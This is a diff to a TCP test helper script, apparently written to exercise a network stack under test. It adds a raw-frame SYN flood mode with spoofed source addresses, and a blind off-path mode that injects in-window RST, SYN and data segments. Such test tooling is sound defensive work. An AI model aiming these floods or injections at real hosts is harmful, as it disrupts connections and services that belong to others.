@@ -12,6 +12,14 @@ Modes:
   abort HOST PORT    connect, send --send bytes, read their echo, then close with SO_LINGER {1, 0}
   many HOST PORT     --count concurrent connections, each sends --size bytes, half-closes and
                      must read the same bytes back before the end of stream
+  synflood HOST PORT --count SYNs from spoofed sources (192.0.2.10-249, every port from 1024 up)
+                     with random ISNs, written as raw frames to --device towards --mac, spread
+                     over --seconds; prints flooding=1 after the first batch, then flood_sent=N
+  blind HOST PORT    an off-path attacker on the connection from this host's --src-port to
+                     HOST:PORT: --count segments with the kernel's addresses, cycling RST, SYN and
+                     100 bytes of data, each SEQ a random offset 1..--window-1 past --base (in the
+                     window, never exact), the data's ACK 2^30 to 1.5 * 2^30 past --ack-base (not
+                     acceptable); prints blind_sent=N
 Exchange options:
   --send N --seed S  send N bytes, then shutdown(SHUT_WR); receive until end of stream
   --send-file PATH   send the bytes of PATH instead
@@ -19,6 +27,7 @@ Exchange options:
   --sequential       send everything and shut down before receiving anything
   --send-after-eof   receive until end of stream first, then send (the peer half-closed first)
   --expect-echo      fail unless what came back is exactly what was sent
+  --pause S --pause-after N   send N bytes, print paused=1, stay silent S seconds, send the rest
 """
 
 import argparse
@@ -55,7 +64,14 @@ def exchange(sock, args):
     saved = open(args.save, "wb") if args.save else None
 
     def send():
-        sock.sendall(payload)
+        if args.pause:
+            # An idle stretch in the middle of the stream (for the blind-attack test).
+            sock.sendall(payload[:args.pause_after])
+            report(paused=1)
+            time.sleep(args.pause)
+            sock.sendall(payload[args.pause_after:])
+        else:
+            sock.sendall(payload)
         sock.shutdown(socket.SHUT_WR)
 
     def receive():
@@ -206,9 +222,83 @@ def run_many(args):
     return 0 if completed == args.count else 1
 
 
+def checksum(data):
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def tcp_frame(src_mac, dst_mac, src_ip, dst_ip, src_port, dst_port, seq, ack, flags,
+              payload=b""):
+    tcp = struct.pack("!HHIIBBHHH", src_port, dst_port, seq, ack, 5 << 4, flags, 64240, 0, 0)
+    tcp += payload
+    pseudo = src_ip + dst_ip + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP,
+                     0, src_ip, dst_ip)
+    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+    return dst_mac + src_mac + struct.pack("!H", 0x0800) + ip + tcp
+
+
+def run_blind(args):
+    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    raw.bind((args.device, 0))
+    with open(f"/sys/class/net/{args.device}/address") as f:
+        src_mac = bytes.fromhex(f.read().strip().replace(":", ""))
+    dst_mac = bytes.fromhex(args.mac.replace(":", ""))
+    src_ip = socket.inet_aton(args.src)
+    dst_ip = socket.inet_aton(args.host)
+    rng = random.Random(args.seed)
+    rst, syn, psh_ack = 0x04, 0x02, 0x18
+    for i in range(args.count):
+        seq = (args.base + rng.randrange(1, args.window)) % (1 << 32)
+        kind = i % 3
+        if kind == 0:
+            frame = tcp_frame(src_mac, dst_mac, src_ip, dst_ip, args.src_port, args.port, seq, 0, rst)
+        elif kind == 1:
+            frame = tcp_frame(src_mac, dst_mac, src_ip, dst_ip, args.src_port, args.port, seq, 0, syn)
+        else:
+            ack = (args.ack_base + (1 << 30) + rng.randrange(1 << 29)) % (1 << 32)
+            frame = tcp_frame(src_mac, dst_mac, src_ip, dst_ip, args.src_port, args.port, seq, ack,
+                              psh_ack, b"X" * 100)
+        raw.send(frame)
+    report(blind_sent=args.count)
+    return 0
+
+
+def run_synflood(args):
+    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    raw.bind((args.device, 0))
+    dst_mac = bytes.fromhex(args.mac.replace(":", ""))
+    src_mac = bytes.fromhex("02666c6f6f64")  # not the kernel's: nobody answers for it
+    dst_ip = socket.inet_aton(args.host)
+    rng = random.Random(args.seed)
+    batch = 1000
+    start = time.monotonic()
+    sent = 0
+    while sent < args.count:
+        for _ in range(min(batch, args.count - sent)):
+            src_ip = socket.inet_aton(f"192.0.2.{10 + sent % 240}")
+            raw.send(tcp_frame(src_mac, dst_mac, src_ip, dst_ip, 1024 + sent // 240, args.port,
+                               rng.getrandbits(32), 0, 0x02))
+            sent += 1
+        if sent == batch:
+            report(flooding=1)
+        # Spread the flood over --seconds so that it outlasts the legitimate client's transfer.
+        ahead = start + args.seconds * sent / args.count - time.monotonic()
+        if ahead > 0:
+            time.sleep(ahead)
+    report(flood_sent=sent)
+    return 0
+
+
 def main():
     parser = argparse.ArgumentParser()
-    parser.add_argument("mode", choices=["client", "server", "refused", "abort", "many"])
+    parser.add_argument("mode", choices=["client", "server", "refused", "abort", "many", "synflood",
+                                         "blind"])
     parser.add_argument("where", nargs="+", help="HOST PORT, or PORT for server")
     parser.add_argument("--send", type=int, default=0)
     parser.add_argument("--seed", type=int, default=0)
@@ -220,13 +310,24 @@ def main():
     parser.add_argument("--count", type=int, default=1000)
     parser.add_argument("--size", type=int, default=1024)
     parser.add_argument("--timeout", type=float, default=30)
+    parser.add_argument("--pause", type=float, default=0)
+    parser.add_argument("--pause-after", type=int, default=0)
+    parser.add_argument("--device", default="tap0")
+    parser.add_argument("--mac")
+    parser.add_argument("--seconds", type=float, default=3)
+    parser.add_argument("--src", default="192.0.2.1")
+    parser.add_argument("--src-port", type=int)
+    parser.add_argument("--base", type=int)
+    parser.add_argument("--window", type=int)
+    parser.add_argument("--ack-base", type=int)
     args = parser.parse_args()
     if args.mode == "server":
         args.port = int(args.where[0])
     else:
         args.host, args.port = args.where[0], int(args.where[1])
     return {"client": run_client, "server": run_server, "refused": run_refused,
-            "abort": run_abort, "many": run_many}[args.mode](args)
+            "abort": run_abort, "many": run_many, "synflood": run_synflood,
+            "blind": run_blind}[args.mode](args)
 
 
 if __name__ == "__main__":
